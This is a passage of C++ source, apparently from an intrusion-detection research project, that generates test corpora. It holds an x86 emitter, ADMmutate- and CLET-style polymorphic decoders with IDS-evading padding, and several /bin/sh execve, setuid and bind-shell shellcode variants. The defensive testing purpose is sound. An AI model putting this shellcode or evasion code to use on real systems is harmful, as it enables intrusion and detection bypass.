    mod = 1;
  } else {
    mod = 2;
  }
  code_.push_back(static_cast<std::uint8_t>((mod << 6) | (reg << 3) | rm));
  if (base == R32::esp) code_.push_back(0x24);  // SIB: scale 0, no index, base esp
  if (mod == 1) {
    code_.push_back(static_cast<std::uint8_t>(disp));
  } else if (mod == 2) {
    util::put_u32le(code_, static_cast<std::uint32_t>(disp));
  }
}

void Asm::mov_r32_imm32(R32 r, std::uint32_t imm) {
  code_.push_back(static_cast<std::uint8_t>(0xB8 + static_cast<std::uint8_t>(r)));
  util::put_u32le(code_, imm);
}

void Asm::mov_r8_imm8(R8 r, std::uint8_t imm) {
  code_.push_back(static_cast<std::uint8_t>(0xB0 + static_cast<std::uint8_t>(r)));
  code_.push_back(imm);
}

void Asm::mov_r32_r32(R32 dst, R32 src) {
  code_.push_back(0x89);
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (static_cast<std::uint8_t>(src) << 3) |
                                            static_cast<std::uint8_t>(dst)));
}

void Asm::mov_r8_r8(R8 dst, R8 src) {
  code_.push_back(0x88);
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (static_cast<std::uint8_t>(src) << 3) |
                                            static_cast<std::uint8_t>(dst)));
}

void Asm::mov_r32_mem(R32 dst, R32 base, std::int8_t disp) {
  code_.push_back(0x8B);
  emit_modrm_mem(static_cast<std::uint8_t>(dst), base, disp);
}

void Asm::mov_mem_r32(R32 base, std::int8_t disp, R32 src) {
  code_.push_back(0x89);
  emit_modrm_mem(static_cast<std::uint8_t>(src), base, disp);
}

void Asm::mov_r8_mem(R8 dst, R32 base, std::int8_t disp) {
  code_.push_back(0x8A);
  emit_modrm_mem(static_cast<std::uint8_t>(dst), base, disp);
}

void Asm::mov_mem_r8(R32 base, std::int8_t disp, R8 src) {
  code_.push_back(0x88);
  emit_modrm_mem(static_cast<std::uint8_t>(src), base, disp);
}

void Asm::mov_mem_imm8(R32 base, std::int8_t disp, std::uint8_t imm) {
  code_.push_back(0xC6);
  emit_modrm_mem(0, base, disp);
  code_.push_back(imm);
}

void Asm::mov_mem_imm32(R32 base, std::int8_t disp, std::uint32_t imm) {
  code_.push_back(0xC7);
  emit_modrm_mem(0, base, disp);
  util::put_u32le(code_, imm);
}

void Asm::lea(R32 dst, R32 base, std::int32_t disp) {
  code_.push_back(0x8D);
  // lea with zero displacement still needs a memory form; force disp8 so
  // [ebp] stays encodable.
  if (disp == 0 && base == R32::ebp) disp = 0;  // handled by emit_modrm_mem (mod 1)
  emit_modrm_mem(static_cast<std::uint8_t>(dst), base, disp);
}

void Asm::xchg_r32_r32(R32 a, R32 b) {
  code_.push_back(0x87);
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (static_cast<std::uint8_t>(b) << 3) |
                                            static_cast<std::uint8_t>(a)));
}

void Asm::push_r32(R32 r) {
  code_.push_back(static_cast<std::uint8_t>(0x50 + static_cast<std::uint8_t>(r)));
}

void Asm::pop_r32(R32 r) {
  code_.push_back(static_cast<std::uint8_t>(0x58 + static_cast<std::uint8_t>(r)));
}

void Asm::push_imm32(std::uint32_t imm) {
  code_.push_back(0x68);
  util::put_u32le(code_, imm);
}

void Asm::push_imm8(std::int8_t imm) {
  code_.push_back(0x6A);
  code_.push_back(static_cast<std::uint8_t>(imm));
}

void Asm::alu_r32_r32(std::uint8_t family, R32 dst, R32 src) {
  code_.push_back(static_cast<std::uint8_t>(family * 8 + 1));  // op rm32, r32
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (static_cast<std::uint8_t>(src) << 3) |
                                            static_cast<std::uint8_t>(dst)));
}

void Asm::alu_r32_imm(std::uint8_t family, R32 dst, std::int32_t imm) {
  if (imm >= -128 && imm <= 127) {
    code_.push_back(0x83);
    code_.push_back(static_cast<std::uint8_t>(0xC0 | (family << 3) |
                                              static_cast<std::uint8_t>(dst)));
    code_.push_back(static_cast<std::uint8_t>(imm));
  } else {
    code_.push_back(0x81);
    code_.push_back(static_cast<std::uint8_t>(0xC0 | (family << 3) |
                                              static_cast<std::uint8_t>(dst)));
    util::put_u32le(code_, static_cast<std::uint32_t>(imm));
  }
}

void Asm::alu_r8_imm8(std::uint8_t family, R8 dst, std::uint8_t imm) {
  code_.push_back(0x80);
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (family << 3) |
                                            static_cast<std::uint8_t>(dst)));
  code_.push_back(imm);
}

void Asm::alu_r8_r8(std::uint8_t family, R8 dst, R8 src) {
  code_.push_back(static_cast<std::uint8_t>(family * 8));  // op rm8, r8
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (static_cast<std::uint8_t>(src) << 3) |
                                            static_cast<std::uint8_t>(dst)));
}

void Asm::alu_mem8_imm8(std::uint8_t family, R32 base, std::uint8_t imm) {
  code_.push_back(0x80);
  emit_modrm_mem(family, base, 0);
  code_.push_back(imm);
}

void Asm::alu_mem8_r8(std::uint8_t family, R32 base, R8 src) {
  code_.push_back(static_cast<std::uint8_t>(family * 8));  // op rm8, r8
  emit_modrm_mem(static_cast<std::uint8_t>(src), base, 0);
}

void Asm::inc_r32(R32 r) {
  code_.push_back(static_cast<std::uint8_t>(0x40 + static_cast<std::uint8_t>(r)));
}

void Asm::dec_r32(R32 r) {
  code_.push_back(static_cast<std::uint8_t>(0x48 + static_cast<std::uint8_t>(r)));
}

void Asm::not_r8(R8 r) {
  code_.push_back(0xF6);
  code_.push_back(static_cast<std::uint8_t>(0xD0 | static_cast<std::uint8_t>(r)));
}

void Asm::neg_r8(R8 r) {
  code_.push_back(0xF6);
  code_.push_back(static_cast<std::uint8_t>(0xD8 | static_cast<std::uint8_t>(r)));
}

void Asm::not_r32(R32 r) {
  code_.push_back(0xF7);
  code_.push_back(static_cast<std::uint8_t>(0xD0 | static_cast<std::uint8_t>(r)));
}

void Asm::test_r32_r32(R32 a, R32 b) {
  code_.push_back(0x85);
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (static_cast<std::uint8_t>(b) << 3) |
                                            static_cast<std::uint8_t>(a)));
}

void Asm::cmp_r32_imm8(R32 r, std::int8_t imm) {
  code_.push_back(0x83);
  code_.push_back(static_cast<std::uint8_t>(0xF8 | static_cast<std::uint8_t>(r)));
  code_.push_back(static_cast<std::uint8_t>(imm));
}

void Asm::shift_r8_imm8(std::uint8_t subop, R8 r, std::uint8_t count) {
  code_.push_back(0xC0);
  code_.push_back(static_cast<std::uint8_t>(0xC0 | (subop << 3) |
                                            static_cast<std::uint8_t>(r)));
  code_.push_back(count);
}

void Asm::cdq() { code_.push_back(0x99); }
void Asm::nop() { code_.push_back(0x90); }

void Asm::jmp(Label target) {
  code_.push_back(0xE9);
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/false});
  util::put_u32le(code_, 0);
}

void Asm::jmp_short(Label target) {
  code_.push_back(0xEB);
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/true});
  code_.push_back(0);
}

void Asm::jcc(std::uint8_t cc, Label target) {
  code_.push_back(static_cast<std::uint8_t>(0x70 | (cc & 0xf)));
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/true});
  code_.push_back(0);
}

void Asm::jcc_near(std::uint8_t cc, Label target) {
  code_.push_back(0x0F);
  code_.push_back(static_cast<std::uint8_t>(0x80 | (cc & 0xf)));
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/false});
  util::put_u32le(code_, 0);
}

void Asm::jmp_r32(R32 r) {
  code_.push_back(0xFF);
  code_.push_back(static_cast<std::uint8_t>(0xE0 | static_cast<std::uint8_t>(r)));
}

void Asm::loop_(Label target) {
  code_.push_back(0xE2);
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/true});
  code_.push_back(0);
}

void Asm::jecxz(Label target) {
  code_.push_back(0xE3);
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/true});
  code_.push_back(0);
}

void Asm::call(Label target) {
  code_.push_back(0xE8);
  fixups_.push_back(Fixup{code_.size(), target.id, /*rel8=*/false});
  util::put_u32le(code_, 0);
}

void Asm::int_imm(std::uint8_t vector) {
  code_.push_back(0xCD);
  code_.push_back(vector);
}

void Asm::ret() { code_.push_back(0xC3); }

}  // namespace senids::gen
