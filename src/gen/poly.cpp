#include "gen/poly.hpp"

#include <algorithm>
#include <functional>

#include "gen/emitter.hpp"

namespace senids::gen {

using util::Bytes;
using util::ByteView;
using util::Prng;

namespace {

/// One-byte instructions with NOP-like behaviour for the decoder (which
/// initializes every register it relies on after the sled runs).
constexpr std::uint8_t kSledPool[] = {
    0x90,  // nop
    0xF8,  // clc
    0xF9,  // stc
    0xF5,  // cmc
    0xFC,  // cld
    0x98,  // cwde
    0x99,  // cdq
    0x27,  // daa
    0x2F,  // das
    0x37,  // aaa
    0x3F,  // aas
    0x9B,  // wait
    0xD6,  // salc
    0x40, 0x41, 0x42, 0x43, 0x46, 0x47,  // inc r32 (not esp/ebp)
    0x48, 0x49, 0x4A, 0x4B, 0x4E, 0x4F,  // dec r32 (not esp/ebp)
};

/// Emit 0..3 junk instructions over registers the decoder does not rely
/// on. `free_regs` are full-width registers safe to clobber.
void emit_junk(Asm& a, Prng& prng, const std::vector<R32>& free_regs, double prob,
               std::size_t max_insns = 3) {
  if (free_regs.empty()) return;
  std::size_t n = 0;
  while (n < max_insns && prng.chance(prob)) ++n;
  for (std::size_t i = 0; i < n; ++i) {
    const R32 r = prng.pick(free_regs);
    switch (prng.below(10)) {
      case 0: a.nop(); break;
      case 1: a.mov_r32_imm32(r, static_cast<std::uint32_t>(prng.next())); break;
      case 2: a.add_r32_imm(r, static_cast<std::int32_t>(prng.below(0x7f)) + 1); break;
      case 3: a.alu_r32_imm(6, r, static_cast<std::int32_t>(prng.next() & 0x7fffffff)); break;
      case 4: a.inc_r32(r); break;
      case 5: a.dec_r32(r); break;
      case 6: a.test_r32_r32(r, r); break;
      case 7:
        // Stack-touching junk: a balanced push/pop pair (its transient
        // store exercises the matcher's memory reasoning).
        a.push_r32(r);
        a.pop_r32(r);
        break;
      case 8:
        a.mov_r32_r32(r, prng.pick(free_regs));
        break;
      default: a.cmp_r32_imm8(r, static_cast<std::int8_t>(prng.below(100))); break;
    }
  }
}

/// A straight-line piece of the decoder, emitted under a label.
struct Block {
  std::function<void(Asm&)> body;
};

/// Emit logical blocks in a (possibly shuffled) physical order, chaining
/// logical successors with jmps where the physical layout breaks the
/// fall-through.
void emit_blocks(Asm& a, Prng& prng, std::vector<Block> blocks, bool shuffle,
                 Asm::Label entry_from, bool short_jumps) {
  const std::size_t n = blocks.size();
  std::vector<std::size_t> order(n);
  for (std::size_t i = 0; i < n; ++i) order[i] = i;
  if (shuffle && n > 1) prng.shuffle(order);

  std::vector<Asm::Label> labels;
  labels.reserve(n);
  for (std::size_t i = 0; i < n; ++i) labels.push_back(a.new_label());
  Asm::Label exit = a.new_label();

  // Route control into logical block 0.
  a.bind(entry_from);
  if (order.front() != 0) {
    if (short_jumps) a.jmp_short(labels[0]); else a.jmp(labels[0]);
  }

  for (std::size_t pos = 0; pos < n; ++pos) {
    const std::size_t logical = order[pos];
    a.bind(labels[logical]);
    blocks[logical].body(a);
    const bool is_last_logical = logical + 1 == n;
    const std::size_t next_logical = logical + 1;
    if (is_last_logical) {
      if (short_jumps) a.jmp_short(exit); else a.jmp(exit);
    } else if (pos + 1 == n || order[pos + 1] != next_logical) {
      if (short_jumps) a.jmp_short(labels[next_logical]); else a.jmp(labels[next_logical]);
    }
  }
  a.bind(exit);
}

std::vector<R32> free_registers(std::initializer_list<R32> reserved) {
  std::vector<R32> free;
  for (unsigned i = 0; i < 8; ++i) {
    const R32 r = static_cast<R32>(i);
    if (r == R32::esp || r == R32::ebp || r == R32::ecx) continue;
    if (std::find(reserved.begin(), reserved.end(), r) != reserved.end()) continue;
    free.push_back(r);
  }
  return free;
}

}  // namespace

util::Bytes make_nop_sled(Prng& prng, std::size_t length) {
  Bytes sled(length);
  for (auto& b : sled) {
    b = kSledPool[prng.below(sizeof kSledPool)];
  }
  return sled;
}

PolyResult admmutate_encode(ByteView payload, Prng& prng, const PolyOptions& options) {
  PolyResult result;
  result.scheme = prng.chance(options.xor_scheme_prob) ? DecoderScheme::kXor
                                                       : DecoderScheme::kAltOrAndNot;
  result.key = static_cast<std::uint8_t>(1 + prng.below(255));
  result.sled_len =
      options.sled_min + prng.below(options.sled_max - options.sled_min + 1);

  // Both schemes decode as enc ^ key (the alternate scheme computes xor
  // out of or/and/not), so encoding is uniform.
  Bytes encoded(payload.begin(), payload.end());
  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ result.key);

  // ------------------------------------------------- register assignment
  const bool xor_scheme = result.scheme == DecoderScheme::kXor;
  R32 rp;  // pointer register
  if (xor_scheme) {
    static constexpr R32 kPtrPool[] = {R32::eax, R32::ebx, R32::edx, R32::esi, R32::edi};
    rp = kPtrPool[prng.below(5)];
  } else {
    rp = prng.chance(0.5) ? R32::esi : R32::edi;
  }

  // Key/temp registers must be 8-bit addressable (eax/ebx/edx) and
  // distinct from the pointer.
  std::vector<R32> byte_regs;
  for (R32 r : {R32::eax, R32::ebx, R32::edx}) {
    if (r != rp) byte_regs.push_back(r);
  }
  prng.shuffle(byte_regs);

  // Key placement for the xor scheme: immediate, or a register built
  // directly / by split-add / by split-xor (Figure 1(b) obfuscation).
  enum class KeyForm { kImm, kReg, kRegSplitAdd, kRegSplitXor };
  const KeyForm key_form =
      !xor_scheme ? KeyForm::kImm
                  : static_cast<KeyForm>(prng.below(4));
  const R32 rk = byte_regs[0];
  const R32 ra = byte_regs[0];                       // alt-scheme temps
  const R32 rb = byte_regs.size() > 1 ? byte_regs[1] : byte_regs[0];

  std::vector<R32> junk_regs = free_registers({rp, rk, ra, rb});

  result.getpc = prng.chance(options.fnstenv_getpc_prob) ? GetPcMethod::kFnstenv
                                                         : GetPcMethod::kCallPop;
  const bool fnstenv = result.getpc == GetPcMethod::kFnstenv;
  const std::uint8_t key = result.key;
  const double junk = options.junk_prob;
  const std::uint32_t count = static_cast<std::uint32_t>(encoded.size());

  // Assemble one full instance. All randomness comes from `p`, so two
  // passes from the same PRNG state produce byte-identical layouts —
  // which the fnstenv GetPC relies on: it must add the (layout-dependent)
  // distance from the fldz to the payload, so pass one measures with a
  // stable-width placeholder and pass two patches the real value in.
  // Returns {code, fldz-to-payload distance}.
  auto assemble = [&](Prng& p, std::uint32_t fldz_dist) -> std::pair<Bytes, std::uint32_t> {
    Asm a;
    a.raw(make_nop_sled(p, result.sled_len));

    auto lmain = a.new_label();
    auto lget = a.new_label();
    auto lfldz = a.new_label();
    if (!fnstenv) {
      a.jmp(lget);  // entry: hop over the decoder to the GetPC call
    }

    auto lloop_head = a.new_label();
    std::vector<Block> blocks;
    // Block 0: GetPC — leave the payload pointer in rp.
    blocks.push_back(Block{[&, junk](Asm& x) {
      if (fnstenv) {
        x.bind(lfldz);
        x.raw8(0xD9);
        x.raw8(0xEE);  // fldz: loads FIP
        x.raw8(0xD9);
        x.raw8(0x74);
        x.raw8(0x24);
        x.raw8(0xF4);  // fnstenv [esp-12]: FIP surfaces at [esp]
        x.pop_r32(rp);
        // Stable 5-byte encoding regardless of the distance value.
        x.mov_r32_imm32(R32::ecx, fldz_dist);
        x.alu_r32_r32(0, rp, R32::ecx);  // add rp, ecx (ecx re-set below)
      } else {
        x.pop_r32(rp);
      }
      x.push_r32(rp);  // save the payload start for the post-loop ret
      emit_junk(x, p, junk_regs, junk);
    }});
    // Block 1: loop counter.
    blocks.push_back(Block{[&, junk, count](Asm& x) {
      if (count < 256 && p.chance(0.5)) {
        x.xor_r32_r32(R32::ecx, R32::ecx);
        x.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(count));
      } else {
        x.mov_r32_imm32(R32::ecx, count);
      }
      emit_junk(x, p, junk_regs, junk);
    }});
    // Block 2: key construction (xor scheme with a register key only).
    if (xor_scheme && key_form != KeyForm::kImm) {
      blocks.push_back(Block{[&, junk, key](Asm& x) {
        switch (key_form) {
          case KeyForm::kReg:
            x.mov_r8_imm8(low8(rk), key);
            break;
          case KeyForm::kRegSplitAdd: {
            const std::uint8_t part = static_cast<std::uint8_t>(p.below(key));
            x.mov_r32_imm32(rk, part);
            x.alu_r32_imm(0, rk, static_cast<std::int32_t>(key - part));
            break;
          }
          case KeyForm::kRegSplitXor: {
            const std::uint32_t mask = static_cast<std::uint32_t>(p.next());
            x.mov_r32_imm32(rk, mask);
            x.alu_r32_imm(6, rk, static_cast<std::int32_t>(mask ^ key));
            break;
          }
          case KeyForm::kImm:
            break;
        }
        emit_junk(x, p, junk_regs, junk);
      }});
    }
    // Final block: the decode loop. Kept atomic so the rel8 backedge
    // always encodes; intra-loop junk is bounded for the same reason.
    blocks.push_back(Block{[&, junk, key](Asm& x) {
      x.bind(lloop_head);
      if (xor_scheme) {
        if (key_form == KeyForm::kImm) {
          x.xor_mem8_imm8(rp, key);
        } else {
          x.xor_mem8_r8(rp, low8(rk));
        }
      } else {
        // dec = (enc | k) & not(enc & k)  ==  enc ^ k, spelled in
        // mov/or/and/not — the Figure 7 behaviour.
        x.mov_r8_mem(low8(ra), rp);
        x.alu_r8_imm8(1, low8(ra), key);   // or ra, k
        x.mov_r8_mem(low8(rb), rp);
        x.alu_r8_imm8(4, low8(rb), key);   // and rb, k
        x.not_r8(low8(rb));
        x.alu_r8_r8(4, low8(ra), low8(rb));  // and ra, rb
        x.mov_mem_r8(rp, 0, low8(ra));
      }
      emit_junk(x, p, junk_regs, junk * 0.5, /*max_insns=*/2);
      // Pointer advance: equivalent-instruction substitution.
      switch (p.below(4)) {
        case 0: x.inc_r32(rp); break;
        case 1: x.add_r32_imm(rp, 1); break;
        case 2: x.sub_r32_imm(rp, -1); break;
        default: x.lea(rp, rp, 1); break;
      }
      emit_junk(x, p, junk_regs, junk * 0.5, /*max_insns=*/2);
      // Loop-back: loop vs dec/jnz.
      if (p.chance(0.5)) {
        x.loop_(lloop_head);
      } else {
        x.dec_r32(R32::ecx);
        x.jnz(lloop_head);
      }
      // Hand control to the decoded payload (start was saved by block 0).
      x.ret();
    }});

    emit_blocks(a, p, std::move(blocks), options.out_of_order, lmain,
                /*short_jumps=*/false);

    if (!fnstenv) {
      a.bind(lget);
      a.call(lmain);
    }
    std::uint32_t measured = 0;
    if (fnstenv) {
      const auto fldz_off = a.label_offset(lfldz);
      measured = static_cast<std::uint32_t>(a.size() - fldz_off.value());
    }
    a.raw(encoded);
    return {a.finish(), measured};
  };

  if (fnstenv) {
    // Probe pass on a copy measures the distance; the real pass consumes
    // the caller's PRNG and, starting from the identical state, produces
    // the identical layout with the distance patched in.
    Prng probe_rng = prng;
    const auto [probe, dist] = assemble(probe_rng, 0);
    auto [bytes, dist2] = assemble(prng, dist);
    if (dist2 != dist || bytes.size() != probe.size()) {
      throw EmitError("fnstenv layout drifted between assembly passes");
    }
    result.bytes = std::move(bytes);
  } else {
    result.bytes = assemble(prng, 0).first;
  }
  return result;
}

PolyResult clet_encode(ByteView payload, Prng& prng, std::size_t spectrum_pad) {
  PolyResult result;
  result.scheme = DecoderScheme::kXor;
  result.key = static_cast<std::uint8_t>(1 + prng.below(255));
  result.sled_len = 4 + prng.below(12);

  Bytes encoded(payload.begin(), payload.end());
  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ result.key);

  Asm a;
  a.raw(make_nop_sled(prng, result.sled_len));

  auto lmain = a.new_label();
  auto lget = a.new_label();
  auto lloop = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::edi);
  a.push_r32(R32::edi);  // save the payload start for the post-loop ret
  a.mov_r32_imm32(R32::ecx, static_cast<std::uint32_t>(encoded.size()));
  a.bind(lloop);
  a.xor_mem8_imm8(R32::edi, result.key);
  a.inc_r32(R32::edi);
  a.dec_r32(R32::ecx);
  a.jnz(lloop);
  a.ret();  // jump into the decoded payload
  a.bind(lget);
  a.call(lmain);
  a.raw(encoded);

  // Spectrum normalization: pad with English-frequency bytes so 1-gram
  // statistics resemble text traffic (defeats payload-distribution IDS).
  static constexpr char kSpectrum[] =
      "etaoinshrdlucmfwypvbgkjqxz ETAOINSHRDLU0123456789 .,\r\n";
  for (std::size_t i = 0; i < spectrum_pad; ++i) {
    a.raw8(static_cast<std::uint8_t>(kSpectrum[prng.below(sizeof kSpectrum - 1)]));
  }

  result.bytes = a.finish();
  return result;
}

}  // namespace senids::gen
