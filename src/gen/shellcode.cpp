#include "gen/shellcode.hpp"

#include "gen/emitter.hpp"
#include "gen/poly.hpp"

namespace senids::gen {

using util::Bytes;

namespace {

/// Shared tail: the canonical push-"/bin//sh" execve sequence.
void emit_execve_push(Asm& a) {
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.push_imm32(0x68732f2f);  // "//sh"
  a.push_imm32(0x6e69622f);  // "/bin"
  a.mov_r32_r32(R32::ebx, R32::esp);
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.cdq();
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
}

/// v1: the canonical jmp/call/pop exploit (Aleph One lineage).
Bytes shell_v1() {
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);                       // ebx = &"/bin/sh"
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_mem_r8(R32::ebx, 7, R8::al);         // terminate the path
  a.mov_mem_r32(R32::ebx, 8, R32::ebx);      // argv[0] = path
  a.mov_mem_r32(R32::ebx, 12, R32::eax);     // argv[1] = NULL
  a.lea(R32::ecx, R32::ebx, 8);
  a.lea(R32::edx, R32::ebx, 12);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::as_bytes("/bin/shXAAAABBBB"));
  return a.finish();
}

/// v2: stack-built path, no embedded string at all.
Bytes shell_v2() {
  Asm a;
  emit_execve_push(a);
  return a.finish();
}

/// v3: setuid(0) then spawn — the privilege-restore variant.
Bytes shell_v3() {
  Asm a;
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.lea(R32::eax, R32::ebx, 0x17);  // eax = 23 = setuid
  a.int_imm(0x80);
  emit_execve_push(a);
  return a.finish();
}

/// v4: jmp/call/pop with reassigned registers and scattered no-ops.
Bytes shell_v4() {
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::esi);
  a.nop();
  a.xor_r32_r32(R32::ecx, R32::ecx);
  a.mov_mem_r8(R32::esi, 7, R8::cl);
  a.mov_mem_r32(R32::esi, 8, R32::esi);
  a.nop();
  a.mov_mem_r32(R32::esi, 12, R32::ecx);
  a.mov_r32_r32(R32::ebx, R32::esi);
  a.lea(R32::ecx, R32::esi, 8);
  a.lea(R32::edx, R32::esi, 12);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  a.bind(lget);
  a.call(lmain);
  a.raw(util::as_bytes("/bin/shXAAAABBBB"));
  return a.finish();
}

/// v5: the path dwords arrive encoded and are reconstructed
/// arithmetically — a syntax-level evasion the semantic matcher folds
/// straight through.
Bytes shell_v5() {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.mov_r32_imm32(R32::edi, 0x68732f2f ^ 0x42424242);
  a.alu_r32_imm(6, R32::edi, 0x42424242);  // xor edi, mask -> "//sh"
  a.push_r32(R32::edi);
  a.mov_r32_imm32(R32::edi, 0x6e69622f - 0x01010101);
  a.add_r32_imm(R32::edi, 0x01010101);     // -> "/bin"
  a.push_r32(R32::edi);
  a.mov_r32_r32(R32::ebx, R32::esp);
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.cdq();
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  return a.finish();
}

/// v6: path written with direct stores instead of pushes.
Bytes shell_v6() {
  Asm a;
  a.sub_r32_imm(R32::esp, 16);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.mov_mem_imm32(R32::esp, 0, 0x6e69622f);
  a.mov_mem_imm32(R32::esp, 4, 0x68732f2f);
  a.mov_mem_r32(R32::esp, 8, R32::eax);
  a.mov_r32_r32(R32::ebx, R32::esp);
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.cdq();
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  return a.finish();
}

/// v7: register shuffling through xchg plus junk compares.
Bytes shell_v7() {
  Asm a;
  a.xor_r32_r32(R32::edx, R32::edx);
  a.xchg_r32_r32(R32::eax, R32::edx);      // eax = 0, edx = junk
  a.push_r32(R32::eax);
  a.test_r32_r32(R32::edi, R32::edi);      // junk
  a.push_imm32(0x68732f2f);
  a.cmp_r32_imm8(R32::esi, 3);             // junk
  a.push_imm32(0x6e69622f);
  a.mov_r32_r32(R32::ebx, R32::esp);
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.cdq();
  a.mov_r8_imm8(R8::al, 0x0b);
  a.int_imm(0x80);
  return a.finish();
}

/// v8: push/pop idioms replace every mov.
Bytes shell_v8() {
  Asm a;
  a.xor_r32_r32(R32::eax, R32::eax);
  a.push_r32(R32::eax);
  a.push_imm32(0x68732f2f);
  a.push_imm32(0x6e69622f);
  a.push_r32(R32::esp);
  a.pop_r32(R32::ebx);                     // mov ebx, esp
  a.push_r32(R32::eax);
  a.push_r32(R32::ebx);
  a.push_r32(R32::esp);
  a.pop_r32(R32::ecx);                     // mov ecx, esp
  a.cdq();
  a.push_imm8(0x0b);
  a.pop_r32(R32::eax);                     // eax = 11, full width
  a.int_imm(0x80);
  return a.finish();
}

/// Shared bind-shell skeleton; `port_be` in network byte order.
Bytes bind_shell(std::uint16_t port_be, bool use_inc_chain) {
  Asm a;
  // socket(AF_INET, SOCK_STREAM, 0)
  a.xor_r32_r32(R32::eax, R32::eax);
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.push_r32(R32::eax);
  a.push_imm8(0x01);
  a.push_imm8(0x02);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.inc_r32(R32::ebx);                     // SYS_SOCKET = 1
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);
  a.mov_r32_r32(R32::esi, R32::eax);       // fd

  // bind(fd, {AF_INET, port, 0.0.0.0}, 16)
  a.xor_r32_r32(R32::edx, R32::edx);
  a.push_r32(R32::edx);                    // sin_addr = INADDR_ANY
  // struct dword: sin_family=2 | sin_port in the high half.
  a.push_imm32(0x00000002u | (static_cast<std::uint32_t>(port_be) << 16));
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.push_imm8(0x10);
  a.push_r32(R32::ecx);
  a.push_r32(R32::esi);
  a.mov_r32_r32(R32::ecx, R32::esp);
  a.mov_r8_imm8(R8::bl, 0x02);             // SYS_BIND
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);

  // listen(fd, 1)
  a.push_imm8(0x01);
  a.push_r32(R32::esi);
  a.mov_r32_r32(R32::ecx, R32::esp);
  if (use_inc_chain) {
    a.inc_r32(R32::ebx);
    a.inc_r32(R32::ebx);                   // 2 -> 4 = SYS_LISTEN
  } else {
    a.mov_r8_imm8(R8::bl, 0x04);
  }
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);

  // accept(fd, 0, 0)
  a.xor_r32_r32(R32::edx, R32::edx);
  a.push_r32(R32::edx);
  a.push_r32(R32::edx);
  a.push_r32(R32::esi);
  a.mov_r32_r32(R32::ecx, R32::esp);
  if (use_inc_chain) {
    a.inc_r32(R32::ebx);                   // 4 -> 5 = SYS_ACCEPT
  } else {
    a.mov_r8_imm8(R8::bl, 0x05);
  }
  a.mov_r8_imm8(R8::al, 0x66);
  a.int_imm(0x80);

  emit_execve_push(a);
  return a.finish();
}

}  // namespace

std::vector<ShellcodeSample> make_shell_spawn_corpus() {
  std::vector<ShellcodeSample> out;
  out.push_back({"jmp-call-pop-classic", shell_v1(), false});
  out.push_back({"push-builder", shell_v2(), false});
  out.push_back({"setuid-restore", shell_v3(), false});
  out.push_back({"jcp-reassigned", shell_v4(), false});
  out.push_back({"arith-rebuild", shell_v5(), false});
  out.push_back({"stack-store", shell_v6(), false});
  out.push_back({"xchg-junk", shell_v7(), false});
  out.push_back({"push-pop-idiom", shell_v8(), false});
  out.push_back({"bind-shell-4444", bind_shell(/*port_be=*/0x5c11u, false), true});
  out.push_back({"bind-shell-inc-chain", bind_shell(/*port_be=*/0x3930u, true), true});
  return out;
}

util::Bytes make_fnstenv_decoder_payload(std::uint8_t key) {
  Bytes plain = shell_v2();
  Bytes encoded = plain;
  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ key);

  // The pointer register receives the address of the fldz; the decoder
  // must add the stub's own length to reach the encoded payload. The
  // stub length depends on the add's immediate encoding, so assemble
  // twice: once to measure, once with the real displacement (the imm8
  // form is stable for any stub under 128 bytes).
  auto assemble = [&](std::uint8_t skip) {
    Asm a;
    auto lloop = a.new_label();
    a.raw8(0xD9);
    a.raw8(0xEE);              // fldz: the FPU instruction whose FIP is stored
    a.raw8(0xD9);
    a.raw8(0x74);
    a.raw8(0x24);
    a.raw8(0xF4);              // fnstenv [esp-12]: FIP lands at [esp-12+12]=[esp]
    a.pop_r32(R32::esi);       // esi = &fldz
    a.add_r32_imm(R32::esi, skip);
